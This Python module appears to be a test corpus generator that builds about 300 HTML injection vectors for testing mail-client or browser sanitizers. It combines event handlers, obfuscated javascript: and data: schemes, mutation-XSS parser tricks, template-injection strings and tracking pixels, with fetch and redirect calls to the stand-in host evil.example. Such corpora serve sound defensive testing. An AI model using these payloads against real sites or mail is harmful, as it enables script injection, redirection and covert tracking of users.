"""Three hundred pieces of HTML that would do something in a mail client or a browser, made from the known families of such tricks."""

from itertools import islice, product

SCRIPTS = ("alert(1)", "fetch(`//evil.example`)", "top.location=`//evil.example`")
ELEMENTS_WITH_EVENTS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "marquee", "video src=x", "audio src=x", "a href=#", "div", "select autofocus",
    "textarea autofocus", "iframe src=x", "object data=x", "form", "button", "table background=x", "td", "li", "p", "h1", "pre", "b", "blockquote",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}", "javascript&colon;{}", "\x01javascript:{}",
    " javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "livescript:{}", "feed:javascript:{}",
    "view-source:javascript:{}", "file:///etc/passwd", "blob:{}", "jar:http://evil.example!/x", "ms-word:ofe|u|{}", "\\\\evil.example\\x", "//evil.example",
)  # fmt: skip
PLACES = (
    '<a href="{}">x</a>', '<img src="{}">', '<form action="{}"><input type=submit>', '<iframe src="{}"></iframe>', '<object data="{}"></object>',
    '<embed src="{}">', '<base href="{}">', '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<table background="{}"><tr><td>x</td></tr></table>', '<div style="background:url({})">x</div>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<video poster="{}"></video>', '<button formaction="{}">x</button>', '<area href="{}">', '<blockquote cite="{}">x</blockquote>',
)  # fmt: skip
TRACKERS = (
    '<img src="https://evil.example/p.gif" width=1 height=1>', '<img srcset="https://evil.example/p.gif 1x">', '<picture><source srcset="//evil.example/p"></picture>',
    "<style>@import url(//evil.example/x.css)</style>", '<p style="background-image:url(https://evil.example/p)">x</p>', '<body background="https://evil.example/p">',
    '<link rel=prefetch href="https://evil.example">', '<link rel=dns-prefetch href="//evil.example">', '<audio autoplay src="https://evil.example/a"></audio>',
    '<img src="cid:https://evil.example/p.gif">', '<input type=image src="https://evil.example/p.gif">', '<video><track src="//evil.example/t"></video>',
)  # fmt: skip
BROKEN = (
    "<scr<script>ipt>{0}</scr</script>ipt>", "<<script>script>{0}<</script>/script>", "<script\x00>{0}</script>", "<script/x>{0}</script>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={0}>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<!--><img src=x onerror={0}>-->", "<![CDATA[<script>{0}</script>]]>", "<?xml-stylesheet href='{0}'?>", "<template><script>{0}</script></template>",
    "&lt;script&gt;{0}&lt;/script&gt;", "&amp;lt;script&amp;gt;{0}", "<p title=\"'><script>{0}</script>\">x</p>", "<a href='x' title='\"><img src=x onerror={0}>'>x</a>",
    "<img alt='\"><script>{0}</script>' src='cid:a'>", "<plaintext><script>{0}</script>", "<xmp><script>{0}</script></xmp>", "<title><img src=x onerror={0}></title>",
    "<a href='https://a.example/\"onmouseover=\"{0}'>x</a>", "<a href='https://a.example/&quot;><script>{0}</script>'>x</a>", "<ol type='\"><script>{0}</script>' start='9\"onclick={0}'><li>x</li></ol>",
    "<td colspan='9\"onclick={0}'>x</td>", "<p dir='\"onclick={0}'>x</p>", "<pre lang='\"onclick={0}'>x</pre>", "{{{{{0}}}}}", "{{% include '{0}' %}}", "[x](javascript:{0})", "<https://a.example/><script>{0}</script>",
)  # fmt: skip


def vectors() -> list[str]:
    """The vectors, each once."""
    found = [
        f"<{element} {event}={script}>x"
        for (element, event), script in zip(product(ELEMENTS_WITH_EVENTS, EVENTS), SCRIPTS * 64, strict=True)
    ]
    links = [place.format(scheme.format(SCRIPTS[0])) for place, scheme in product(PLACES, SCHEMES)]
    broken = [form.format(script) for form in BROKEN for script in SCRIPTS]
    found = [*found[::2], *links[::3], *TRACKERS, *broken]
    return list(islice(dict.fromkeys(found), 320))
